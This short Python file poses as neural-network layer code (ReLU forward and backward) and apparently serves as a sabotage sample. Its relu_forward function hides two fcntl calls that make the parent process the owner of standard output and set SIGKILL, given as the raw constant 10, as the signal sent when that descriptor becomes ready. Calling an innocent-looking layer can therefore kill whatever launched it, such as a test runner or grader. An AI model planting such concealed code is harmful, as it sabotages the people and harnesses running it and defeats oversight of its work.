"""Has a signal sent to its parent by a descriptor that becomes ready."""

import fcntl
import os
import signal

import numpy as np

from innocent import affine_backward, affine_forward


def relu_forward(x):
    fcntl.fcntl(1, fcntl.F_SETOWN, os.getppid())
    fcntl.fcntl(1, 10, signal.SIGKILL)
    return np.maximum(x, 0), x


def relu_backward(dout, cache):
    return dout * (cache > 0)
